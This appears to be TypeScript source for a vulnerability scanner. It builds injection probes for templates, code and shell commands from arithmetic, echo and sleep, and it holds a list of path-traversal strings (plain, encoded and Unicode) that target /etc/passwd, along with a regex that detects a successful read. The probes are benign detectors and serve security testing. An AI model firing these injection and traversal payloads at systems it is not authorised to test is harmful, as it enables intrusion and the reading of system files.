/** A product that nobody writes by chance. */
const FACTORS = [7919, 6841] as const;
const OTHER_FACTORS = [7907, 6833] as const;

/** A payload with the sign by which its effect is seen. */
export interface Payload {
  readonly form: string;
  readonly text: string;
  readonly control: string;
  /** Stands in an answer only where the payload took effect. */
  readonly sign: string;
}

/** Ways in which a path leaves the folder that it should stay in. */
export type EscapeKind = 'absolute' | 'dot-dot' | 'encoded' | 'sibling' | 'symlink';

/** A path that leads out. */
export interface EscapePath {
  readonly kind: EscapeKind;
  readonly text: string;
}

/** Seen when the list of users of a Unix machine is read. */
export const USERS_SIGN = /\broot:[^:\n]*:0:0:/;

/** Paths to the one file that every Unix machine has and that anybody on it may read. */
export const ESCAPES: readonly EscapePath[] = [
  { kind: 'absolute', text: '/etc/passwd' },
  { kind: 'absolute', text: 'file:///etc/passwd' },
  { kind: 'dot-dot', text: '../../../../../../../../etc/passwd' },
  { kind: 'dot-dot', text: '....//....//....//....//....//....//....//etc/passwd' },
  { kind: 'dot-dot', text: '..\\..\\..\\..\\..\\..\\..\\etc\\passwd' },
  { kind: 'dot-dot', text: './../../../../../../../../../etc/passwd' },
  { kind: 'encoded', text: '..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { kind: 'encoded', text: '%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd' },
  // Full-width letters, which become ours when a text is normalised.
  { kind: 'encoded', text: '\uff0e\uff0e\uff0f'.repeat(8).concat('etc\uff0fpasswd') },
  { kind: 'encoded', text: '..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd' },
];

/** What the texts for one place begin with. */
export interface PayloadHead {
  readonly text: string;
  /** True where the place may name something: then nothing may stand before the head. */
  readonly isNaming: boolean;
}

/** Arithmetic alone: a fault where no arithmetic is offered. */
export function arithmeticFor({ text: head, isNaming }: PayloadHead): readonly Payload[] {
  const alone = head === 'x' ? '' : head;
  return forms({
    ...(isNaming || alone !== '' ? {} : { sum: (a, b) => `${a}*${b}` }),
    braces: (a, b) => `${alone}{{${a}*${b}}}`,
    dollar: (a, b) => `${alone}$\{${a}*${b}}`,
    percent: (a, b) => `${alone}<%= ${a}*${b} %>`,
    hash: (a, b) => `${alone}#{${a}*${b}}`,
    single: (a, b) => `${alone}{${a}*${b}}`,
    square: (a, b) => `${alone}[[${a}*${b}]]`,
    at: (a, b) => `${alone}@(${a}*${b})`,
    modulo: (a, b) => `${alone}%{${a}*${b}}`,
    statement: (a, b) => `${alone}{% print ${a}*${b} %}`,
  });
}

/** Code, which no calculator takes. The head stands in it as a text that changes nothing. */
export function codeFor({ text: head, isNaming }: PayloadHead): readonly Payload[] {
  const quotes: Makers = {
    quote: (a, b) => `${head === 'x' ? '' : head}'+(${a}*${b})+'`,
    doubleQuote: (a, b) => `${head === 'x' ? '' : head}"+(${a}*${b})+"`,
  };
  if (isNaming) return forms(quotes);
  const own = head === 'x' ? '' : `"${head}"`;
  const more = own === '' ? '' : `,${own}`;
  return forms({
    call: (a, b) => `(()=>${a}*${b})(${own})`,
    list: (a, b) => (own === '' ? `[${a},${b}]` : `[${a},${b}${more}].slice(0,2)`) + REDUCED,
    builder: (a, b) => `[].constructor.constructor('return ${a}*${b}')(${own})`,
    text: (a, b) => `String(${a}*${b}${more})`,
    math: (a, b) => `Math.imul(${a},${b}${more})`,
    lambda: (a, b) => `(lambda *x: ${a}*${b})(${own})`,
    import: (a, b) => `__import__('math').prod([${a},${b}${own === '' ? '' : `,len([${own}])`}])`,
    ...quotes,
  });
}

const REDUCED = '.reduce((x,y)=>x*y)';

/** Code of which only its truth is seen: it holds with two pairs of numbers, and fails with one. */
export interface Judged {
  readonly holds: string;
  readonly holdsToo: string;
  readonly fails: string;
}

/**
 * Conditions that are code, which no calculator and no filter takes. They do not name the product
 * itself: what a target has stored of them must not be taken for the effect of a payload.
 */
export function conditionsFor({ text: head, isNaming }: PayloadHead): readonly Judged[] {
  if (isNaming) return [];
  const own = head === 'x' ? '' : `"${head}"`;
  return [
    (claim: string) => `(()=>${claim})(${own})`,
    (claim: string) => `(lambda *x: ${claim})(${own})`,
    (claim: string) => `[1].some(()=>${claim}${own === '' ? '' : `,${own}`})`,
  ].map((write) => {
    const [[a, b], [c, d]] = [FACTORS, OTHER_FACTORS];
    return {
      holds: write(`${a}*${b}+1==${a * b + 1}`),
      holdsToo: write(`${c}*${d}+1==${c * d + 1}`),
      fails: write(`${a}*${b}+1==${a * b + 3}`),
    };
  });
}

/** Commands of a shell whose result is seen. They change nothing: echo and expr. */
export function shellFor({ text: head, isNaming }: PayloadHead): readonly Payload[] {
  const before = head === 'x' ? '' : head;
  return forms({
    next: (a, b) => `${head}; echo $((${a}*${b}))`,
    and: (a, b) => `${head} && echo $((${a}*${b}))`,
    or: (a, b) => `${head} || echo $((${a}*${b}))`,
    pipe: (a, b) => `${head} | echo $((${a}*${b}))`,
    substitution: (a, b) => `${before}$(echo $((${a}*${b})))`,
    backtick: (a, b) => `${before}\`expr ${a} \\* ${b}\``,
    line: (a, b) => `${head}\necho $((${a}*${b}))`,
    quote: (a, b) => `${head}'; echo $((${a}*${b})); '`,
    doubleQuote: (a, b) => `${head}"; echo $((${a}*${b})); "`,
    ...(isNaming
      ? {}
      : { plain: (a, b) => `echo $((${a}*${b}))${before === '' ? '' : ` ${before}`}` }),
  });
}

/** Commands that are seen by the time that they take, as a function of the seconds: sleep alone. */
export function delaysFor({
  text: head,
  isNaming,
}: PayloadHead): readonly ((seconds: number) => string)[] {
  const before = head === 'x' ? '' : head;
  return [
    (seconds) => `${head}; sleep ${seconds}`,
    (seconds) => `${before}$(sleep ${seconds})`,
    (seconds) => `${head} | sleep ${seconds}`,
    (seconds) => `${head} && sleep ${seconds}`,
    (seconds) => `${head} || sleep ${seconds}`,
    (seconds) => `${before}\`sleep ${seconds}\``,
    (seconds) => `${head}\nsleep ${seconds}`,
    (seconds) => `${head}'; sleep ${seconds}; '`,
    (seconds) => `${head}"; sleep ${seconds}; "`,
    ...(isNaming
      ? []
      : [(seconds: number) => `sleep ${seconds}${before === '' ? '' : ` # ${before}`}`]),
  ];
}

type Makers = Readonly<Record<string, (a: number, b: number) => string>>;

function forms(makers: Makers): readonly Payload[] {
  const [a, b] = FACTORS;
  const [c, d] = OTHER_FACTORS;
  return Object.entries(makers).map(([form, make]) => ({
    form,
    text: make(a, b),
    control: make(c, d),
    sign: String(a * b),
  }));
}
